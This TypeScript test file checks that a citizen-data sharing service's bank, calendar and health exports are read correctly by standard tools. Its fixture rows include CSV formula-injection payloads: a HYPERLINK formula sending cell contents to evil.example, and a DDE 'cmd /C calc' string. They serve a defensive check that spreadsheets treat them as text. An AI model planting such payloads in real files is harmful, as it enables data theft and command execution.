/**
 * The tools receivers already use judge our standard files: python3-ofxparse and libofx's
 * `ofxdump` read the OFX copy, hledger (with a rules file) and LibreOffice Calc (Danish CSV
 * filter) the CSV copy, python3-icalendar and ical.js the calendar, the official FHIR R4 JSON
 * schema and FHIR.js the health copy, and `redocly lint` the Citizen Data API document. The
 * bank and health files are made through the sharing service the share wizard calls, from
 * records with nasty contents (æøå, quotes, semicolons, texts starting with = + - @, amounts
 * over a million, negative zero, several accounts, each its own statement). Each tool's verdict is a test; a tool
 * that is missing fails its test. The tools are installed by .ci/run.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import { generateIdentity } from '../../src/bundle/index';
import { parseFhir } from '../../src/importers/health/fhir/parse';
import type { DailyAggregate } from '../../src/records/health/types';
import { open, type BundleFile } from '../../src/receiver/sdk';
import { ACTIVITIES_COPY_PATH, HEALTH_COPY_PATH, standardCopies, TRANSACTION_COPY_PATHS } from '../../src/sharing/standard-copies';
import { healthWriteOps } from '../../src/ui/health/records';
import { bankRow, SHARING_NOW, sharingHarness, type SharingHarness } from './support/sharing-harness';
import {
  fhirJsComplaints,
  fhirSchemaErrors,
  HLEDGER_RULES,
  hledgerRead,
  libreofficeRead,
  ofxdumpRead,
  ofxparseRead,
  pythonIcalendarRead,
  redoclyLint,
  withFiles,
} from './support/stock-tools';

/** Texts a bank or a third party (a transfer's or MobilePay's message) may write. */
const NASTY = [
  ['2026-01-03', -123_456_789, 'Føtex Århus C; "Æblekage" & <co>'],
  ['2026-01-03', 0, '=HYPERLINK("https://evil.example/?"&A1;"Klik her")'],
  ['2026-01-04', 250_000_000, '+4512345678 MobilePay fra Søren'],
  ['2026-01-05', -4_550, '-Rema 1000; kasse 2'],
  ['2026-01-05', -4_550, '-Rema 1000; kasse 2'],
  ['2026-01-06', -100, "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['2026-01-07', -1_999, '00123'],
  ['2026-01-08', 1, '1-2'],
  ['2026-02-02', -30_000, 'Husleje februar, Ærø Boligselskab'],
  ['2026-02-20', -5, 'Øre-afrunding'],
] as const;
/** The citizen's accounts: an IBAN, a Danish registration and account number, one known by its name alone, and one with no shared rows. */
const ACCOUNTS = [
  { id: 'acct-1', data: { label: 'Lønkonto', accountNumber: 'DK5000400440116243', formatId: 'camt053' } },
  { id: 'acct-2', data: { label: 'Budgetkonto', accountNumber: '4711-0000123456', formatId: 'danske-bank' } },
  { id: 'acct-3', data: { label: 'Opsparing "Ærø"; fælles', formatId: 'mapped' } },
  { id: 'acct-4', data: { label: 'Skjult konto', accountNumber: 'DK9520000123456789', formatId: 'nordea' } },
];
const SHARED_ACCOUNTS = ['DK5000400440116243', '4711-0000123456', 'Opsparing "Ærø"; fælles'];
const ROWS = NASTY.map(([date, amount, text], i) => ({
  ...bankRow(date, amount === 0 ? -0 : amount, i % 2 ? 'groceries' : 'other', text, i + 1),
  accountId: ACCOUNTS[i % 3]!.id,
}));

const text = (f: BundleFile) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(f.bytes);
const file = (files: BundleFile[], path: string) => {
  const found = files.find((f) => f.path === path);
  if (!found) throw new Error(`no ${path} in the bundle`);
  return found;
};

async function share(h: SharingHarness, items: Record<string, unknown>[]) {
  const them = generateIdentity();
  const recipient = await h.call('recipientAdd', { profileId: h.profileId, source: 'paste', text: them.recipient, name: 'Bogføring' });
  const request = { profileId: h.profileId, recipientId: recipient.id, purpose: 'Budget', selection: { items }, expiry: { kind: 'date', date: '2026-06-30' } };
  const created = await h.call('shareCreate', request);
  const opened = await open(await h.download(created), { identity: them.identity, now: new Date(SHARING_NOW + 1000) });
  if (!opened.ok) throw new Error(`${opened.reason}: ${opened.detail}`);
  return opened;
}

const transactions = (from: string, to: string) => ({
  type: 'transactions',
  from,
  to,
  categories: [],
  fields: ['date', 'amount', 'text', 'category', 'account'],
});

/** Two overlapping shares: January–February, and January alone. */
async function bankShares() {
  const h = await sharingHarness();
  await h.call('writeRecords', { ops: ACCOUNTS.map(({ id, data }) => ({ op: 'put', profileId: h.profileId, kind: 'bank-account', id, data })) });
  await h.call('writeRecords', { ops: ROWS.map((data) => ({ op: 'put', profileId: h.profileId, kind: 'bank-transaction', data })) });
  const both = await share(h, [transactions('2026-01-01', '2026-02-28')]);
  const january = await share(h, [transactions('2026-01-01', '2026-01-31')]);
  return { both, january };
}

const ore = (amount: string) => Math.round(Number(amount) * 100);

type SharedRow = { date: string; amountMinor: number; text: string; category?: string; account: string };
const entryOf = (opened: Awaited<ReturnType<typeof share>>) =>
  (opened.data.transactions as { accounts: { id: string; name: string; number?: string }[]; rows: SharedRow[] }[])[0]!;
/** data.json's rows as an OFX copy lists them: account by account in data.json's order, each in date order. */
const byAccount = (entry: ReturnType<typeof entryOf>) => entry.accounts.flatMap((account) => entry.rows.filter((r) => r.account === account.id));

describe('the OFX copy', async () => {
  const { both, january } = await bankShares();
  const ofx = { both: file(both.files, TRANSACTION_COPY_PATHS.ofx), january: file(january.files, TRANSACTION_COPY_PATHS.ofx) };
  const entry = entryOf(both);
  const rows = byAccount(entry);

  it('data.json names each shared account, and only those, with the citizen\u2019s name and the real number', () => {
    expect([...entry.accounts].sort((a, b) => SHARED_ACCOUNTS.indexOf(a.id) - SHARED_ACCOUNTS.indexOf(b.id))).toEqual([
      { id: 'DK5000400440116243', name: 'Lønkonto', number: 'DK5000400440116243' },
      { id: '4711-0000123456', name: 'Budgetkonto', number: '4711-0000123456' },
      { id: 'Opsparing "Ærø"; fælles', name: 'Opsparing "Ærø"; fælles' },
    ]);
    expect(entry.rows.map((r) => `${r.account} ${r.text}`).sort()).toEqual(NASTY.map(([, , t], i) => `${SHARED_ACCOUNTS[i % 3]} ${t}`).sort());
    for (const f of both.files) expect(text(f)).not.toContain('DK9520000123456789');
  });

  it('python3-ofxparse reads every account and every row with its exact text and amount', () => {
    const read = withFiles({ 'a.ofx': ofx.both.bytes }, (dir) => ofxparseRead(join(dir, 'a.ofx')));
    expect(read).toHaveLength(NASTY.length);
    expect([...new Set(read.map((r) => r.account))]).toEqual(entry.accounts.map((a) => a.id));
    expect(read.map((r) => r.account)).toEqual(rows.map((r) => r.account));
    expect(read.map((r) => ore(r.amount))).toEqual(rows.map((r) => r.amountMinor + 0));
    expect(read.map((r) => r.memo.split(' | Kategori: ')[0])).toEqual(rows.map((r) => r.text));
    expect(read.map((r) => r.memo.split(' | Kategori: ')[1])).toEqual(rows.map((r) => r.category));
  });

  it('libofx\u2019s ofxdump reads every account and every row, exits 0 and complains of nothing but its own UTF-8 limit', () => {
    const read = withFiles({ 'a.ofx': ofx.both.bytes }, (dir) => ofxdumpRead(join(dir, 'a.ofx')));
    expect(read.complaints).toEqual([]);
    expect(read.status).toBe(0);
    expect(read.rows.map((r) => r.account)).toEqual(rows.map((r) => r.account));
    expect(read.rows.map((r) => ore(r.amount))).toEqual(rows.map((r) => r.amountMinor + 0));
    expect(read.rows.map((r) => r.memo.split(' | Kategori: ')[0])).toEqual(rows.map((r) => r.text));
  });

  it('gives the same transaction the same FITID in two shares, so reading both adds no duplicates', () => {
    const [b, j] = withFiles({ 'b.ofx': ofx.both.bytes, 'j.ofx': ofx.january.bytes }, (dir) => [
      ofxparseRead(join(dir, 'b.ofx')),
      ofxparseRead(join(dir, 'j.ofx')),
    ]);
    const januaryRows = NASTY.filter(([date]) => date < '2026-02-01').length;
    expect(j).toHaveLength(januaryRows);
    expect(new Set(b.map((r) => r.fitid)).size).toBe(NASTY.length);
    // The January share's rows are the longer share's January rows, account by account, with the same FITIDs.
    const inJanuary = new Set(rows.flatMap((r, i) => (r.date < '2026-02-01' ? [i] : [])));
    expect(j.map((r) => [r.account, r.fitid])).toEqual(b.filter((_, i) => inJanuary.has(i)).map((r) => [r.account, r.fitid]));
    // An importer that deduplicates on FITID (GnuCash through libofx, ledger-autosync through ofxparse) keeps each once.
    const [db, dj] = withFiles({ 'b.ofx': ofx.both.bytes, 'j.ofx': ofx.january.bytes }, (dir) => [
      ofxdumpRead(join(dir, 'b.ofx')),
      ofxdumpRead(join(dir, 'j.ofx')),
    ]);
    expect(new Set([...db.rows, ...dj.rows].map((r) => `${r.account} ${r.fitid}`)).size).toBe(NASTY.length);
  });
});

describe('the CSV copy', async () => {
  const { both } = await bankShares();
  const csv = file(both.files, TRANSACTION_COPY_PATHS.csv);
  const { rows } = entryOf(both);
  /** What a spreadsheet shows for a text a spreadsheet-safe exporter had to mark as text. */
  const shown = (t: string) => (/^[=+\-@]|^[\d .,:/%-]+$/.test(t) ? `'${t}` : t);

  it('hledger with a rules file reads every row: dates, texts and amounts in øre', () => {
    const read = withFiles({ 't.csv': csv.bytes, 't.rules': HLEDGER_RULES }, (dir) => hledgerRead(join(dir, 't.csv'), join(dir, 't.rules')));
    expect(read.stderr).toBe('');
    expect(read.status).toBe(0);
    expect(read.rows.map((r) => [r.date, r.text, r.ore])).toEqual(rows.map((r) => [r.date, shown(r.text), r.amountMinor + 0]));
  });

  it('hledger puts each account\u2019s rows in an account of its own, from the account column', () => {
    const rules = HLEDGER_RULES.replace('account1 assets:bank', 'account1 assets:bank:%account');
    const read = withFiles({ 't.csv': csv.bytes, 't.rules': rules }, (dir) => hledgerRead(join(dir, 't.csv'), join(dir, 't.rules')));
    expect([read.status, read.stderr]).toEqual([0, '']);
    expect(read.rows.map((r) => r.account)).toEqual(rows.map((r) => `assets:bank:${shown(r.account)}`));
    expect(new Set(read.rows.map((r) => r.account)).size).toBe(SHARED_ACCOUNTS.length);
  });

  it('LibreOffice Calc with the Danish filter reads numbers as numbers, dates as dates, and no text as a formula, number or date', { timeout: 180_000 }, () => {
    const sheet = withFiles({ 't.csv': csv.bytes }, (dir) => libreofficeRead(join(dir, 't.csv')));
    expect(sheet).toHaveLength(rows.length + 1);
    const body = sheet.slice(1);
    expect(body.flat().filter((c) => c.formula !== null)).toEqual([]);
    expect(body.map((r) => r[0]!.type)).toEqual(rows.map(() => 'date'));
    expect(body.map((r) => r[0]!.value)).toEqual(rows.map((r) => r.date));
    expect(body.map((r) => r[2]!.type)).toEqual(rows.map(() => 'float'));
    expect(body.map((r) => Math.round(Number(r[2]!.value) * 100))).toEqual(rows.map((r) => r.amountMinor + 0));
    expect(body.map((r) => [r[4]!.type, r[4]!.text])).toEqual(rows.map((r) => ['string', shown(r.text)]));
    expect(body.map((r) => r[10]!.text)).toEqual(rows.map((r) => r.category));
    expect(body.map((r) => [r[9]!.type, r[9]!.text])).toEqual(rows.map((r) => ['string', shown(r.account)]));
  });
});

describe('the iCalendar copy', () => {
  // Activities as data.json holds them (src/municipal/api/schemas.ts), through the share's own copy function.
  const data = {
    cases: [
      {
        case: { type: 'case', id: 'sag-7', version: 1 },
        activities: [
          {
            id: 'akt-1',
            kind: 'appointment',
            title: 'Møde; "opfølgning" om æøå, med Jobcenter',
            status: 'planned',
            startsAt: '2026-03-10T09:00:00+01:00',
            endsAt: '2026-03-10T10:00:00+01:00',
            location: { name: 'Rådhuset, Vesterå', room: 'Lokale 2.14' },
            description: '=HYPERLINK("x")\nLinje 2; med \\ skråstreg',
          },
          { id: 'akt-2', kind: 'deadline', title: 'Aflevér lønsedler', status: 'planned', dueAt: '2026-03-20T22:59:00Z', action: 'Upload på borger.dk' },
          { id: 'akt-3', kind: 'appointment', title: 'Aflyst samtale', status: 'cancelled', startsAt: '2026-03-12T13:00:00Z' },
        ],
        decisions: [
          {
            type: 'decision',
            id: 'afg-1',
            version: 1,
            title: 'Afgørelse om boligstøtte',
            appeal: { deadline: '2026-04-22', body: 'Ankestyrelsen', submitTo: 'Vesterå Kommune', howTo: 'Skriv.' },
          },
        ],
      },
    ],
  };
  const ics = file(standardCopies(data, new Date(SHARING_NOW)), ACTIVITIES_COPY_PATH);

  it('python3-icalendar reads every event with its exact texts and no parse error', () => {
    const read = withFiles({ 'a.ics': ics.bytes }, (dir) => pythonIcalendarRead(join(dir, 'a.ics')));
    expect(read.errors).toEqual([]);
    expect(read.events.map((e) => e.uid)).toEqual(['sag-7.akt-1@handlerum', 'sag-7.akt-2@handlerum', 'sag-7.akt-3@handlerum', 'sag-7.afg-1.appeal@handlerum']);
    expect(read.events[0]).toMatchObject({
      summary: data.cases[0]!.activities[0]!.title,
      start: '2026-03-10T08:00:00+00:00',
      description: data.cases[0]!.activities[0]!.description,
    });
    expect(read.events[1]).toMatchObject({ start: '2026-03-20', end: '2026-03-21', categories: ['Frist'] });
    expect(read.events[3]).toMatchObject({ start: '2026-04-22', categories: ['Frist', 'Klagefrist'] });
  });

  it('ical.js reads the same events', () => {
    const events = new ICAL.Component(ICAL.parse(text(ics))).getAllSubcomponents('vevent').map((c) => new ICAL.Event(c));
    expect(events.map((e) => e.summary)).toEqual([
      'Møde; "opfølgning" om æøå, med Jobcenter',
      'Aflevér lønsedler',
      'Aflyst samtale',
      'Klagefrist: Afgørelse om boligstøtte',
    ]);
    expect(events[0]!.location).toBe('Rådhuset, Vesterå, Lokale 2.14');
  });
});

describe('the FHIR copy', async () => {
  const doctor = {
    resourceType: 'Bundle',
    type: 'collection',
    entry: [
      {
        resource: {
          resourceType: 'Observation',
          id: 'hba1c-1',
          status: 'final',
          code: { coding: [{ system: 'http://loinc.org', code: '4548-4', display: 'Hemoglobin A1c/Hemoglobin.total in Blood' }], text: 'HbA1c (IFCC)' },
          effectiveDateTime: '2026-02-05',
          valueQuantity: { value: 48, unit: 'mmol/mol' },
          subject: { reference: 'Patient/p1' },
        },
      },
      {
        resource: {
          resourceType: 'Condition',
          id: 'cond-1',
          clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-clinical', code: 'active' }] },
          code: { text: 'Type 2-diabetes; "æøå"' },
          onsetDateTime: '2019-04-01',
          subject: { reference: 'Patient/p1' },
        },
      },
      {
        resource: {
          resourceType: 'MedicationRequest',
          id: 'req-1',
          status: 'active',
          intent: 'order',
          medicationCodeableConcept: { text: 'Metformin 500 mg' },
          authoredOn: '2026-01-28',
          dosageInstruction: [{ text: '1 tablet morgen og aften' }],
          subject: { reference: 'Patient/p1' },
        },
      },
      {
        resource: {
          resourceType: 'AllergyIntolerance',
          id: 'all-1',
          clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical', code: 'active' }] },
          code: { text: 'Penicillin' },
          patient: { reference: 'Patient/p1' },
        },
      },
    ],
  };
  const day = (
    date: string,
    metric: 'heart-rate' | 'steps' | 'blood-pressure-systolic' | 'blood-pressure-diastolic',
    type: string,
    unit: string,
    values: number[],
  ): DailyAggregate => ({
    date,
    type,
    metric,
    unit,
    count: values.length,
    sum: values.reduce((a, b) => a + b, 0),
    min: Math.min(...values),
    max: Math.max(...values),
    mean: values.reduce((a, b) => a + b, 0) / values.length,
    sources: ['Ur'],
  });
  const daily = [
    day('2026-02-10', 'steps', 'HKQuantityTypeIdentifierStepCount', 'count', [2100, 1312]),
    day('2026-02-11', 'heart-rate', 'HKQuantityTypeIdentifierHeartRate', 'count/min', [62, 71, 80]),
    day('2026-02-12', 'blood-pressure-systolic', 'HKQuantityTypeIdentifierBloodPressureSystolic', 'mmHg', [141, 137]),
    day('2026-02-12', 'blood-pressure-diastolic', 'HKQuantityTypeIdentifierBloodPressureDiastolic', 'mmHg', [88, 84]),
  ];
  const h = await sharingHarness();
  await h.vault.records.write(
    healthWriteOps({
      profileId: h.profileId,
      file: { name: 'export.zip', size: 1000 },
      format: 'apple-health-zip',
      apple: { daily, samples: [], workouts: [], fhir: parseFhir(JSON.stringify(doctor)), issues: [], bytesRead: 1000, records: daily.length },
      keptSamples: [],
      now: new Date(SHARING_NOW),
    }),
  );
  const opened = await share(h, [
    {
      type: 'health-records',
      from: '2026-02-01',
      to: '2026-02-28',
      metrics: ['steps', 'heart-rate', 'blood-pressure-systolic', 'blood-pressure-diastolic'],
      observations: true,
      clinical: ['Condition', 'MedicationRequest', 'AllergyIntolerance'],
    },
  ]);
  const bundle = JSON.parse(text(file(opened.files, HEALTH_COPY_PATH))) as { entry: { resource: Record<string, unknown> }[] };

  it('passes the official FHIR R4 JSON schema with no error', { timeout: 60_000 }, () => {
    expect(bundle.entry.map((e) => e.resource.resourceType)).toEqual([
      'Observation',
      'Observation',
      'Observation',
      'Observation',
      'Condition',
      'MedicationRequest',
      'AllergyIntolerance',
    ]);
    expect(fhirSchemaErrors(bundle)).toEqual([]);
  });

  it('says what the doctor\u2019s system said: the HbA1c keeps its own display and text', () => {
    const hba1c = bundle.entry.find((e) => e.resource.id === 'hba1c-1')!.resource;
    expect(hba1c.code).toEqual(doctor.entry[0]!.resource.code);
  });

  it('FHIR.js validates it with no error or warning of ours', () => {
    const verdict = fhirJsComplaints(bundle);
    expect(verdict.complaints).toEqual([]);
    expect(verdict.valid).toBe(true);
  });
});

describe('the Citizen Data API document', () => {
  it('redocly lint: no error, no warning', { timeout: 120_000 }, () => {
    const lint = redoclyLint('src/municipal/api/openapi.json');
    expect([lint.errors, lint.warnings], lint.output).toEqual([0, 0]);
    expect(lint.status).toBe(0);
    expect(readFileSync('.redocly.lint-ignore.yaml', 'utf8')).toContain('operation-4xx-response');
  });
});
